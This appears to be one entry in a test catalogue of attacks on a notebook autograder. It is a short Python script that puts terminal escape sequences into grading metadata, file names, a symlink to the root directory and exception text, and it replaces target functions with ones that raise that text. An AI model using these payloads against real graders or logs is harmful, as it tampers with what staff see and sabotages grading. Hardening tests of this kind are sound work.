# /// attack
# catalogue = "showing: terminal escapes in logs"
# layers = ["display"]
# aim = "markup"
# stock = "it keeps no log"
# ///
# Writes escape sequences wherever the staff's terminal might show them.

# %% prepare
notebook["cells"][-1]["metadata"]["nbgrader"] = {"grade_id": "\x1b]0;taken\x07", "schema_version": "\x1b[2J"}
(folder / "\x1b[31mred.txt").write_text("x")
(folder / "link\x1b]0;x\x07").symlink_to("/")

# %%
raise type("\x1b[2JError", (Exception,), {})("\x1b]0;taken over\x07")

# %% answer
def fail(*args, **kwargs):
    raise type("\x1b[2JError", (Exception,), {})("\x1b]0;taken over\x07")


for name in TARGET["names"]:
    globals()[name] = fail
